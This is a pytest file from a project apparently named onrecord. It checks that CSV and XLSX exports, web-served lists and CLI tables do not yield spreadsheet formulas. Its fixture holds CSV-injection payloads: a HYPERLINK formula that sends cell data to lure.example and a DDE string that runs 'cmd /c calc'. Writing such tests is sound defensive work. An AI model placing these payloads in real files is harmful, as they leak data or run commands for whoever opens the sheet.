"""A leaked or shared export: no cell of a table is computed by the program that opens it."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from onrecord.cli import main
from onrecord.export.formats import FORMATS
from onrecord.export.spreadsheet import FORMULA
from onrecord.record.store import Record
from onrecord.web.app import make_app
from onrecord.web.site import Site
from tests.export.exporting import written
from tests.web import hostile

COMPUTED = '=HYPERLINK("http://lure.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def computed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Give a record every string of which begins as a formula does."""
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(hostile, "ALL", COMPUTED)
        patched.setattr(hostile, "SCRIPT", "@SUM(1+1)*cmd|'/c calc'!A0")
        patched.setattr(hostile, "HANDLER", "\t＝1+1")
        patched.setattr(hostile, "LONG", 1000)
        yield hostile.make_hostile_record(tmp_path_factory.mktemp("formulas") / "=1+1.record")


def cells_of(table: str) -> list[str]:
    head = table.partition("\n")[0]
    delimiter = ";" if head.count(";") > head.count(",") else ","
    return [cell for line in csv.reader(io.StringIO(table, newline=""), delimiter=delimiter) for cell in line]


def tables_in(content: bytes) -> Iterator[str]:
    """Yield every CSV file of an export, those in archives too."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    yield archive.read(name).decode("utf-8-sig")


def is_number(cell: str) -> bool:
    return cell[1:].replace(".", "").isdigit() and cell[0] in "+-"


@pytest.mark.parametrize("name", [name for name in FORMATS if FORMATS[name].suffix in ("zip", "csv", "xlsx")])
def test_no_cell_of_an_export_is_a_formula(computed: Path, name: str) -> None:
    content = written(computed, name)
    if FORMATS[name].suffix == "xlsx":
        sheets = openpyxl.load_workbook(io.BytesIO(content)).worksheets
        cells = [cell for sheet in sheets for line in sheet.iter_rows() for cell in line]
        assert any(str(cell.value).startswith(("=", "'=")) for cell in cells)
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert not any(cell.hyperlink and "lure" in (cell.hyperlink.target or "") for cell in cells)
        return
    tables = list(tables_in(content)) or [content.decode("utf-8-sig")]
    found = [cell for table in tables for cell in cells_of(table)]
    assert any("HYPERLINK" in cell for cell in found)
    assert [cell for cell in found if cell.startswith(FORMULA) and not is_number(cell)] == []


@pytest.mark.parametrize("page", ["findings.csv", "actors.csv", "asks.csv", "wanted.csv", "search/batch.csv"])
def test_no_cell_of_a_list_taken_from_a_page_is_a_formula(computed: Path, page: str) -> None:
    with Record.open(computed) as record:
        client = TestClient(make_app(Site(record)), "http://127.0.0.1:8321")
        table = client.get(f"/{page}", params={"list": f"{COMPUTED}\n@SUM\n+1"}).text
    found = cells_of(table)
    assert len(found) > 5
    assert [cell for cell in found if cell.startswith(FORMULA)] == []


@pytest.mark.parametrize("command", ["findings", "actors", "asks", "wanted", "events", "figures", "review"])
def test_no_cell_of_a_printed_table_is_a_formula(computed: Path, command: str) -> None:
    done = CliRunner().invoke(main, [command, str(computed), "--csv"])
    assert done.exit_code == 0, done.output
    found = cells_of(done.stdout)
    assert found
    assert [cell for cell in found if cell.startswith(FORMULA) and not is_number(cell)] == []
